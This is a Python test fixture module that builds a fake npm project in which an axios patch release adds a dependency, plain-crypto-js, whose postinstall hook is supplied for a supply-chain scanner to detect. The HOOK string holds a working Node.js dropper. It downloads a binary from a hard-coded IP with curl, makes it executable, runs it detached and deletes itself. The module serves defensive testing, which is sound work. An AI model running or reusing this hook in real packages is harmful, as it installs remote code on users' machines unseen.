"""An upgrade that brings in a package of somebody else's: inert, its every file invented here.

It goes as in March 2026, when a patch release of a client for HTTP wanted a package that nobody
knew, whose hook fetched a program: the names are those that were reported, the rest is not.
"""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import corpora

from picketline.packages import registry

HOOK = """\
const os = require('os'), fs = require('fs'), { execSync } = require('child_process');
const to = os.tmpdir() + '/.cache-x';
execSync('curl -s -o ' + to + ' http://203.0.114.7:8000/' + os.platform());
fs.chmodSync(to, 0o755);
require('child_process').spawn(to, [], { detached: true, stdio: 'ignore' }).unref();
fs.unlinkSync(__filename);
"""
CLIENT = {
    "name": "axios",
    "version": "1.14.0",
    "main": "index.js",
    "author": "Ann Example <ann@home.example>",
    "repository": "github:axios/axios",
    "dependencies": {"follow-redirects": "^1.15.0", "form-data": "^4.0.0"},
}
DEPENDED = {
    "name": "plain-crypto-js",
    "version": "4.2.1",
    "main": "index.js",
    "author": "nrwise <nrwise@mail.example>",
    "scripts": {"postinstall": "node setup.js"},
}
_LIBRARY = "module.exports = (a) => a;\n"


def client(**changes: Any) -> dict[str, str]:
    """The files of the client, with some keys of its manifest changed."""
    return {"package.json": json.dumps(CLIENT | changes), "index.js": _LIBRARY}


def upgraded() -> dict[str, str]:
    """The files of its patch release."""
    wants = {**CLIENT["dependencies"], "plain-crypto-js": "^4.2.1"}  # type: ignore[dict-item]  # a mapping there
    return client(version="1.14.1", dependencies=wants)


def depended() -> dict[str, str]:
    """The files of what it newly wants."""
    return {"package.json": json.dumps(DEPENDED), "setup.js": HOOK, "index.js": _LIBRARY}


def packed(path: Path, files: Mapping[str, str]) -> Path:
    """An npm tarball of some files."""
    held = {f"package/{name}": text.encode() for name, text in files.items()}
    path.write_bytes(corpora.tarred(held))
    return path


def entry(name: str, version: str, **more: Any) -> dict[str, Any]:
    """An entry of npm's lock, from the public registry."""
    base = name.rpartition("/")[2]
    return {
        "version": version,
        "resolved": f"https://{registry.HOST}/{name}/-/{base}-{version}.tgz",
        "integrity": f"sha512-{name.encode().hex()}{version.encode().hex()}",
        **more,
    }


def lock(**entries: dict[str, Any]) -> str:
    """A package-lock.json of entries by name."""
    packages = {f"node_modules/{name}": entry for name, entry in entries.items()}
    root = {"name": "app", "version": "1.0.0", "dependencies": {"axios": "^1.14.0"}}
    made = {"name": "app", "version": "1.0.0", "lockfileVersion": 3}
    return json.dumps(made | {"packages": {"": root, **packages}}, indent=1)


def before() -> str:
    """The lock of a project before the upgrade."""
    wants = CLIENT["dependencies"]
    return lock(
        axios=entry("axios", "1.14.0", dependencies=wants),
        **{
            "follow-redirects": entry("follow-redirects", "1.15.9"),
            "form-data": entry("form-data", "4.0.2"),
        },
    )


def after() -> str:
    """The lock after it."""
    wants = {**CLIENT["dependencies"], "plain-crypto-js": "^4.2.1"}  # type: ignore[dict-item]  # as above
    return lock(
        axios=entry("axios", "1.14.1", dependencies=wants),
        **{
            "follow-redirects": entry("follow-redirects", "1.15.9"),
            "form-data": entry("form-data", "4.0.2"),
            "plain-crypto-js": entry("plain-crypto-js", "4.2.1", hasInstallScript=True),
        },
    )


def folder(files: Mapping[str, Mapping[str, str]], lock_text: str) -> dict[str, str]:
    """The files of a project with packages on disk, by name, and a lock."""
    manifest = {"name": "app", "version": "1.0.0", "dependencies": {"axios": "^1.14.0"}}
    found = {"package.json": json.dumps(manifest), "package-lock.json": lock_text}
    for name, own in files.items():
        found |= {f"node_modules/{name}/{path}": text for path, text in own.items()}
    return found
